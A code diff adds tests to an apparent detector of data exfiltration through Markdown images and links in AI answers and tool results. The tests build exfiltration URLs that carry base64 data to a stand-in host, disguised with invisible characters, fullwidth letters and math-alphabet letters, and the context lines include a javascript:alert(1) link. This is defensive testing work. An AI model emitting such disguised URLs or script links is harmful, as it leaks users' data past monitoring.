@@ -180,6 +180,40 @@ def test_address_that_the_prompt_holds_carries_nothing_out():
     assert seen("[x](javascript:alert(1))", "Write [x](javascript:alert(1))") == [("link", 0.99)]
 
 
+def spread(sign, step):
+    return lambda text: sign.join(text[at : at + step] for at in range(0, len(text), step))
+
+
+@pytest.mark.parametrize(
+    "disguise",
+    [
+        spread("\u200b", 20),
+        spread("\u2060", 1),
+        spread("\u00ad", 3),
+        lambda text: "".join(chr(ord(c) + 0xFEE0) if c.isalnum() else c for c in text),
+        lambda text: "".join(chr(0x1D670 + ord(c) - 65) if c.isupper() else c for c in text),
+    ],
+)
+def test_what_an_address_carries_is_read_through_characters_that_nobody_sees_and_other_forms(disguise):
+    url = f"{OUT}/p.png?d={disguise(BASE64)}"
+    text = f"Look: ![x]({url}) and [x]({url})."
+    assert (seen(text), found(text)) == ([("image", 0.99), ("link", 0.9)], [url, url])
+    assert seen(text, f"Make an image of {url}.") == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "\u200b![a](https://cdn.example.com/a\u200b.png?v=3)\u200b",
+        "详见（https://example.com/a），更多内容请看：https://example.com/b。",
+        f"The \u00adblock is {BASE64}, and “quoted”…",
+        "https://m\u00fcnchen.de/stra\u00dfe\u00a0– a page",
+    ],
+)
+def test_ordinary_addresses_among_unseen_and_other_characters_are_no_finding(text):
+    assert seen(text) == []
+
+
 def test_only_answers_and_tool_results_are_read():
     text = f"![x]({OUT}/?d={BASE64})"
     assert [len(find(text, "", Stage.INPUT, role)) for role in ("user", "system", "tool", "function")] == [0, 0, 1, 1]
